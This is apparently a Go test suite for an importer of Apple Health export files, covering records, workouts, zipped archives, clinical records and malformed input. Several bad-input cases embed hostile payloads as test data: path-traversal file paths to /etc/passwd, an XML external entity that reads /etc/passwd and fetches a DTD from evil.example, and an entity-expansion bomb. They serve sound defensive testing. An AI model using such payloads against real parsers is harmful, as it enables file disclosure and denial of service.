package intake_test

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/keepwell-health/keepwell/store"
	"github.com/keepwell-health/keepwell/store/intake"
	"github.com/keepwell-health/keepwell/store/intake/intaketest"
)

// healthData puts elements into an export.xml as an iPhone writes it.
func healthData(elements ...string) string {
	return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE HealthData [\n<!ELEMENT HealthData (ExportDate,Me,(Record|Workout)*)>\n" +
		"<!ATTLIST HealthData\n  locale CDATA #REQUIRED\n>\n]>\n<HealthData locale=\"en_US\">\n <ExportDate value=\"2024-06-01 08:10:05 +0200\"/>\n " +
		strings.Join(elements, "\n ") + "\n</HealthData>\n"
}

const stepsFrom = `<Record type="HKQuantityTypeIdentifierStepCount" sourceName="Phone" sourceVersion="17.2" unit="count" creationDate="2024-01-01 09:00:00 +0100" `

// steps is a record of ten minutes of steps.
func steps(value string) string {
	return stepsFrom + `startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 08:10:00 +0100" value="` + value + `"/>`
}

func person(t *testing.T, s *store.Store, id store.TypeID) []store.Sample {
	t.Helper()
	samples, err := s.Person().Query(context.Background(), store.Query{Type: id})
	if err != nil {
		t.Fatal(err)
	}
	return samples
}

func TestAppleRecord(t *testing.T) {
	s := openStore(t)
	mustImport(t, s, fileOf("export.xml", healthData(
		`<Record type="HKQuantityTypeIdentifierHeartRate" sourceName="Sam&apos;s &quot;Watch&quot;" sourceVersion="10.2" device="&lt;&lt;HKDevice: 0x30&gt;, name:Apple Watch, hardware:Watch6,7&gt;" unit="count/min" startDate="2024-01-01 01:01:36 +0200" endDate="2024-01-01 01:01:36 +0200" value="74.5">`+
			`<MetadataEntry key="HKMetadataKeyHeartRateMotionContext" value="1"/></Record>`,
		`<Record type="HKQuantityTypeIdentifierOxygenSaturation" sourceName="Watch" unit="%" startDate="2024-01-01 01:01:36 +0200" endDate="2024-01-01 01:01:36 +0200" value="0.97"/>`,
		`<Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="Watch" startDate="2024-01-01 00:00:00 -0330" endDate="2024-01-01 04:00:00 -0330" value="HKCategoryValueSleepAnalysisAsleepREM"/>`,
	)))

	heart := person(t, s, "heartRate")[0]
	if *heart.Value != 74.5 || heart.Unit != "count/min" || heart.StartDate != 1704063696000 || heart.EndDate != heart.StartDate {
		t.Errorf("got %+v", heart)
	}
	if heart.Source.Name != `Sam's "Watch"` || heart.Source.Version != "10.2" || heart.Source.Device != "name:Apple Watch, hardware:Watch6,7" {
		t.Errorf("got source %+v", heart.Source)
	}
	if heart.Metadata["HKMetadataKeyHeartRateMotionContext"] != "1" || heart.Metadata["UTCOffset"] != "+0200" {
		t.Errorf("got metadata %v", heart.Metadata)
	}
	if oxygen := person(t, s, "oxygenSaturation")[0]; *oxygen.Value != 97 || oxygen.Unit != "%" {
		t.Errorf("got %v %s", *oxygen.Value, oxygen.Unit)
	}
	if sleep := person(t, s, "sleepAnalysis")[0]; *sleep.Value != 5 || sleep.EndDate-sleep.StartDate != 4*3600*1000 {
		t.Errorf("got %+v", sleep)
	}
}

func TestAppleObjects(t *testing.T) {
	const workout = `<Workout workoutActivityType="HKWorkoutActivityTypeTraditionalStrengthTraining" duration="31.5" durationUnit="min" sourceName="Watch" startDate="2024-01-01 07:00:00 +0100" endDate="2024-01-01 07:31:30 +0100">` +
		`<WorkoutStatistics type="HKQuantityTypeIdentifierActiveEnergyBurned" sum="201.4" unit="kcal"/></Workout>`
	s := openStore(t)
	mustImport(t, s, fileOf("export.xml", healthData(
		`<Me HKCharacteristicTypeIdentifierBloodType="HKBloodTypeANegative" HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexNotSet"/>`,
		`<Correlation type="HKCorrelationTypeIdentifierBloodPressure" sourceName="Cuff" startDate="2024-01-01 07:00:00 +0100" endDate="2024-01-01 07:00:00 +0100">`+
			`<Record type="HKQuantityTypeIdentifierBloodPressureSystolic" unit="mmHg" value="121"/><Record type="HKQuantityTypeIdentifierBloodPressureDiastolic" unit="mmHg" value="79"/></Correlation>`,
		workout,
		`<ActivitySummary dateComponents="2024-01-01" activeEnergyBurned="590.252" activeEnergyBurnedUnit="kcal" appleExerciseTime="68" appleStandHours="13"/>`,
		`<VisionPrescription type="glasses" dateIssued="2024-01-01 00:00:00 +0100" sourceName="Health"><RightEye sphere="1.25" sphereUnit="D"/></VisionPrescription>`,
	)))
	for id, want := range map[store.TypeID]string{
		"bloodType":          "Blood Type|A−",
		"bloodPressure":      "Blood Pressure|121/79 mmHg",
		"workout":            "Traditional Strength Training|31.5 min · 201 kcal",
		"activitySummary":    "Activity|590 kcal · 68 min exercise · 13 stand hours",
		"visionPrescription": "Vision Prescriptions|",
	} {
		samples := person(t, s, id)
		if len(samples) != 1 || samples[0].DisplayName+"|"+samples[0].Subtitle != want {
			t.Errorf("%s: got %+v, want %q", id, samples, want)
		}
	}
	raw, err := s.Person().Resource(context.Background(), person(t, s, "workout")[0].UUID)
	if err != nil || string(raw) != workout {
		t.Errorf("the workout's bytes: %q, %v", raw, err)
	}
	if summary := person(t, s, "activitySummary")[0]; summary.StartText != "2024-01-01" {
		t.Errorf("got %+v", summary)
	}
}

// A real export is a zip of a folder, with the records of institutions in files
// of their own.
func TestAppleArchive(t *testing.T) {
	const ecg = "Name,Sam\nDate of Birth,x\nRecorded Date,2024-03-01 07:15:30 +0100\nClassification,Sinus Rhythm\n\n-1\n2\n"
	condition := `{"resourceType":"Condition","id":"c1","code":{"text":"Asthma"},"subject":{"reference":"Patient/1"}}`
	s := openStore(t)
	report := mustImport(t, s, fileOf("export.zip", zipOf(t,
		"apple_health_export/export.xml", healthData(steps("10"),
			`<ClinicalRecord type="Condition" identifier="c1" sourceName="General Hospital" sourceURL="https://fhir.example.org/r4/Condition/c1" fhirVersion="4.0.1" receivedDate="2024-01-01 07:00:00 +0100" resourceFilePath="/clinical-records/Condition-1.json"/>`,
			`<ClinicalRecord type="Condition" identifier="c2" sourceName="General Hospital" resourceFilePath="/clinical-records/../../../etc/passwd"/>`),
		"apple_health_export/clinical-records/Condition-1.json", condition,
		"apple_health_export/electrocardiograms/ecg_2024-03-01.csv", ecg,
		"apple_health_export/workout-routes/route.gpx", `<gpx><trk><trkseg><trkpt lat="0" lon="0"><time>2024-01-01T07:00:00Z</time></trkpt><trkpt lat="0.01" lon="0"/></trkseg></trk></gpx>`,
		"apple_health_export/export_cda.xml", `<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>`,
	)))
	if report.SkippedCount != 1 || !strings.Contains(report.Skipped[0].Reason, "is not in the export") {
		t.Errorf("got %+v", report.Skipped)
	}
	record := person(t, s, "conditionRecord")[0]
	if record.Source.Name != "General Hospital" || record.Source.ID != "import:https://fhir.example.org/r4" || record.FHIR.Identifier != "c1" ||
		record.FHIR.SourceURL != "https://fhir.example.org/r4/Condition/c1" || record.Metadata[store.ReceivedKey] != "2024-01-01 07:00:00 +0100" ||
		record.FHIR.Version != "4.0.1" {
		t.Errorf("got %+v", record)
	}
	if ecg := person(t, s, "electrocardiogram")[0]; ecg.Subtitle != "Sinus Rhythm" || ecg.StartDate != 1709273730000 {
		t.Errorf("got %+v", ecg)
	}
	if route := person(t, s, "workoutRoute")[0]; route.Subtitle != "1.11 km" {
		t.Errorf("got %+v", route)
	}
	if len(person(t, s, "cdaDocument")) != 1 || len(person(t, s, "stepCount")) != 1 {
		t.Error("the document or the steps are missing")
	}
}

// Bad elements are reported by position and rule, and the good ones go in.
func TestAppleBadInput(t *testing.T) {
	const at = `startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 08:10:00 +0100" `
	for _, c := range []struct{ name, element, reason string }{
		{"not a number", stepsFrom + at + `value="ten"/>`, "the value is not a number"},
		{"infinite", stepsFrom + at + `value="Inf"/>`, "the value is not a number"},
		{"no value", stepsFrom + at + `/>`, "the value is not a number"},
		{"end before start", stepsFrom + `startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "endDate is before startDate"},
		{"year 0", stepsFrom + `startDate="0000-01-01 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "startDate is not a date"},
		{"year 9999", stepsFrom + `startDate="2024-01-01 08:00:00 +0100" endDate="9999-01-01 07:10:00 +0100" value="1"/>`, "endDate is not a date"},
		{"no dates", stepsFrom + `value="1"/>`, "startDate is not a date"},
		{"wrong unit", strings.Replace(stepsFrom, `unit="count"`, `unit="kg"`, 1) + at + `value="1"/>`, "the unit does not fit"},
		{"unknown type", strings.Replace(stepsFrom, "StepCount", "Luck", 1) + at + `value="1"/>`, "the type of this record is not known"},
		{"unknown category value", `<Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="W" ` + at + `value="HKCategoryValueSleepAnalysisNapping"/>`, "the value is none that this type has"},
		{"long attribute", `<Record type="HKQuantityTypeIdentifierStepCount" sourceName="` + strings.Repeat("x", 3<<20) + `"/>`, "a tag is longer than 1 MiB"},
		{"value of another shape", stepsFrom + at + `value="1,5"/>`, "the value is not a number"},
		{"year 10000", stepsFrom + `startDate="10000-01-01 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "startDate is not a date"},
		{"day that is none", stepsFrom + `startDate="2023-02-29 08:00:00 +0100" endDate="2024-01-01 07:10:00 +0100" value="1"/>`, "startDate is not a date"},
		{"quantity of a category", `<Record type="HKQuantityTypeIdentifierStepCount" sourceName="W" unit="count" ` + at + `value="HKCategoryValueNotApplicable"/>`, "the value is not a number"},
		{"type of no record", strings.Replace(stepsFrom, "HKQuantityTypeIdentifierStepCount", "HKWorkoutTypeIdentifier", 1) + at + `value="1"/>`, "a record can't be of this type"},
		{"workout before its start", `<Workout workoutActivityType="HKWorkoutActivityTypeRunning" sourceName="W" startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 07:00:00 +0100"/>`, "endDate is before startDate"},
		{"day of a summary", `<ActivitySummary dateComponents="0000-00-00" activeEnergyBurned="1"/>`, "the date is not a day"},
		{"unknown correlation", `<Correlation type="HKCorrelationTypeIdentifierLuck" sourceName="W" ` + at + `/>`, "the type of this correlation is not known"},
		{"clinical record without its file", `<ClinicalRecord type="Condition" resourceFilePath="/../../etc/passwd"/>`, "is not in the export"},
		{"nested too deep", strings.Repeat("<a>", 200) + strings.Repeat("</a>", 200), ""},
		{"entity bomb", `<Rumour text="&e;&e;&e;"/>`, ""},
		{"external entity", "", ""},
		{"unknown element", `<Rumour text="x"/>`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := openStore(t)
			document := healthData(steps("10"), c.element, strings.Replace(steps("20"), "08:10:00", "08:20:00", 1))
			if entity := map[string]string{
				"external entity": `<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x.dtd">`,
				"entity bomb":     `<!ENTITY e "` + strings.Repeat("&f;", 1000) + `"><!ENTITY f "` + strings.Repeat("ha", 1000) + `">`,
			}[c.name]; entity != "" {
				document = strings.Replace(document, "]>", entity+"]>", 1)
			}
			report := mustImport(t, s, fileOf("export.xml", document))
			if got := len(person(t, s, "stepCount")); got != 2 {
				t.Errorf("%d good records went in, want 2", got)
			}
			if c.reason == "" {
				return
			}
			if report.SkippedCount != 1 || !strings.Contains(report.Skipped[0].Reason, c.reason) || report.Skipped[0].Offset != int64(strings.Index(document, c.element)) {
				t.Errorf("got %+v, want %q", report.Skipped, c.reason)
			}
		})
	}
}

func TestAppleCutShort(t *testing.T) {
	s := openStore(t)
	document := healthData(steps("10"), steps("20"))
	report := mustImport(t, s, fileOf("export.xml", document[:len(document)-40]))
	if len(person(t, s, "stepCount")) != 1 || report.SkippedCount != 1 || !strings.Contains(report.Skipped[0].Reason, "cut short") {
		t.Errorf("got %+v", report)
	}
}

// Next month's export repeats all of this month's.
func TestAppleAgain(t *testing.T) {
	s := openStore(t)
	mustImport(t, s, fileOf("export.xml", healthData(steps("10"))))
	report := mustImport(t, s, fileOf("export.xml", healthData(steps("10"), strings.ReplaceAll(steps("20"), "2024-01-01", "2024-02-01"))))
	if report.Unchanged != 1 || report.Added != 1 {
		t.Errorf("got %+v", report)
	}
}

// recordsFact reads "45 records of 8 types, 4 workouts, 4 activity summaries".
var recordsFact = regexp.MustCompile(`^\| ([^|]+\.xml) \|.*?(\d+) records of \d+ types, (\d+) workouts, (\d+) activity summaries`)

func TestPublicAppleExports(t *testing.T) {
	root := filepath.Join(dataRoot(t), "apple-health")
	readme, err := os.ReadFile(filepath.Join(root, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, line := range strings.Split(string(readme), "\n") {
		m := recordsFact.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		checked++
		t.Run(m[1], func(t *testing.T) {
			content, err := os.ReadFile(filepath.Join(root, m[1]))
			if err != nil {
				t.Fatal(err)
			}
			s := openStore(t)
			report := mustImport(t, s, fileOf("export.xml", string(content)))
			want := 0
			for _, number := range m[2:] {
				n, _ := strconv.Atoi(number)
				want += n
			}
			got := report.Added + report.Unchanged + report.SkippedCount
			for id, n := range report.ByType {
				if row, _ := store.TypeByID(id); row.Kind == store.KindCharacteristic {
					got -= n
				}
			}
			if got != want {
				t.Errorf("%d records, workouts and summaries came in, the README says %d: %+v", got, want, report)
			}
			for _, skip := range report.Skipped {
				t.Errorf("skipped at %d: %s", skip.Offset, skip.Reason)
			}
		})
	}
	if checked < 5 {
		t.Errorf("only %d files of the README were checked", checked)
	}
}

func TestPublicAppleArchives(t *testing.T) {
	archives, _ := filepath.Glob(filepath.Join(dataRoot(t), "apple-health", "*", "export.zip"))
	for _, path := range archives {
		content, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		report := mustImport(t, openStore(t), fileOf("export.zip", string(content)))
		if report.Added == 0 {
			t.Errorf("%s: nothing came in: %+v", filepath.Base(filepath.Dir(path)), report)
		}
	}
}

func FuzzAppleExport(f *testing.F) {
	f.Add(healthData(steps("10"), `<Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="5" startDate="2024-01-01 08:00:00 +0100" endDate="2024-01-01 08:10:00 +0100"><MetadataEntry key="a" value="b"/></Workout>`))
	f.Add(healthData(`<Me HKCharacteristicTypeIdentifierBloodType="HKBloodTypeANegative"/>`))
	f.Fuzz(func(t *testing.T, document string) {
		s := openStore(t)
		var report intake.Report
		var err error
		intaketest.Modest(t, len(document), func() {
			report, err = intake.Import(context.Background(), s, []intake.File{fileOf("export.xml", document)}, nil)
		})
		if err != nil {
			t.Fatal(err)
		}
		checkSums(t, report)
	})
}
